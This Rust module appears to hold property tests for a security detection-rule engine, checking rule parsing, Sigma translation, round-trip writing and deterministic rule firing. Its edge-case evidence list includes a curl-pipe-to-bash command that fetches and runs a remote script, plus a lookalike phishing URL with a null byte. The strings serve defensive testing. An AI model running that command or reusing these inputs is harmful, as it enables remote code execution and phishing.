//! What reading rules owes, whatever the text is: properties that tests replay over the corpora and mutations, and that
//! the fuzz targets explore. A property panics with what it found.

use std::collections::BTreeSet;
use std::sync::Arc;

use ringtrue_core::{Kind, Value};
use ringtrue_label::rules::{Draft, Example, Rule, RuleSet, sigma, write};

/// Evidence at the edges: nothing, what rules look for, what no line of text should hold.
const EVIDENCE: [&str; 4] = [
    "",
    "curl -s http://203.0.113.7/x.sh | bash -p",
    "http://paypal.com.example/login?id=1%00",
    "\u{202e}\u{0}\n'\"\\",
];

/// Reads a rule file. What is refused is told with its lines; what is read has names that differ, in their order, reads again
/// as the same, and answers any event.
pub fn rule_file(text: &str) {
    let lines = text.split('\n').count();
    let set = match RuleSet::parse([("a.toml", text)]) {
        Ok(set) => set,
        Err(errors) => {
            assert!(!errors.is_empty(), "refused for nothing");
            for error in errors {
                assert!((1..=lines).contains(&error.place.line), "{error}");
                assert!(!error.to_string().is_empty());
            }
            return;
        }
    };
    let names: Vec<&str> = set.rules().iter().map(|rule| rule.name.as_str()).collect();
    let distinct: BTreeSet<&str> = names.iter().copied().collect();
    assert!(names.iter().copied().eq(distinct), "{names:?}");
    let again = RuleSet::parse([("a.toml", text)]).map_err(|errors| errors.len());
    let again = again.map(|set| set.rules().iter().map(draft).collect());
    let drafts: Vec<Draft> = set.rules().iter().map(draft).collect();
    assert_eq!(again.as_ref(), Ok(&drafts));
    for kind in Kind::ALL {
        for text in EVIDENCE {
            fire(&set, kind, text);
        }
    }
    for kind in Kind::ALL {
        let of_kind = set.rules().iter().filter(|rule| rule.kind == kind);
        written_reads_back(kind, &of_kind.map(draft).collect::<Vec<_>>());
    }
}

/// Translates a rule of Sigma's. What is refused is told with its line; what is translated is a rule that reads back as it is.
pub fn sigma_rule(text: &str) {
    match sigma::translate("a.yml", text) {
        Ok(draft) => written_reads_back(Kind::Command, &[draft]),
        Err(error) => {
            let lines = text
                .split(['\n', '\r', '\u{85}', '\u{2028}', '\u{2029}'])
                .count();
            assert!((1..=lines.max(1) + 1).contains(&error.line), "{error}");
        }
    }
}

fn draft(rule: &Rule) -> Draft {
    Draft {
        name: rule.name.clone(),
        attack: rule.attack.clone(),
        polarity: rule.polarity,
        author: rule.author.clone(),
        notes: rule.notes.clone(),
        condition: rule.condition.text().to_owned(),
    }
}

/// Asks every rule, of whatever kind, about an event that holds `text`: each answers, fails or abstains once, and twice the same.
fn fire(set: &RuleSet, kind: Kind, text: &str) {
    let value = Value::Text(Arc::from(text));
    let fields = ["normalised", "parts.program"].map(|name| (name.to_owned(), value.clone()));
    let evidence = kind.evidence().map(|name| (name.to_owned(), value.clone()));
    let example = Example {
        fields: fields.into_iter().chain(evidence).collect(),
    };
    let event = example.event(kind);
    let fired = set.fire(&event, None);
    let failed = fired.failed.iter().map(|(place, _)| *place);
    let all: Vec<u32> = fired.rules.iter().copied().chain(failed).collect();
    let distinct: BTreeSet<u32> = all.iter().copied().collect();
    assert_eq!(all.len(), distinct.len(), "{all:?}");
    assert!(
        all.iter()
            .all(|place| (*place as usize) < set.rules().len())
    );
    assert_eq!(set.fire(&event, None), fired);
}

fn written_reads_back(kind: Kind, drafts: &[Draft]) {
    if drafts.is_empty() {
        return;
    }
    let text = write(kind, drafts);
    match RuleSet::parse([("written.toml", text.as_str())]) {
        Ok(set) => {
            let read: Vec<Draft> = set.rules().iter().map(draft).collect();
            assert_eq!(read, drafts, "{text}");
        }
        Err(errors) => panic!("{errors:?} in what was written: {text}"),
    }
}
